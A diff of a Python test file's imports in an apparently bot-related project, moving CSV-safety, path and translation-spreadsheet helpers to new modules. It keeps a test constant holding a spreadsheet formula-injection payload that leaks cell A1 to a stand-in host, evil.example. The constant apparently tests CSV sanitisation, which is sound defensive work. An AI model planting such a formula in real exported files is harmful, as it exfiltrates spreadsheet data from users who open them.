@@ -14,12 +14,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bot import csv_safe
 from bot.coaching.importing import parse
 from bot.coaching.report import Cell, Report, Table, render
 from bot.conversation.check import slots_by_msgid
-from bot.i18n_csv import catalog_path, export_csv, import_csv
-from bot.paths import project_root
+from bot.core import csv_safe
+from bot.core.paths import project_root
+from bot.translation.spreadsheet import catalog_path, export_csv, import_csv
 from tests.harness import conversations
 
 EVIL = '=HYPERLINK("http://evil.example/leak?"&A1,"Click")'
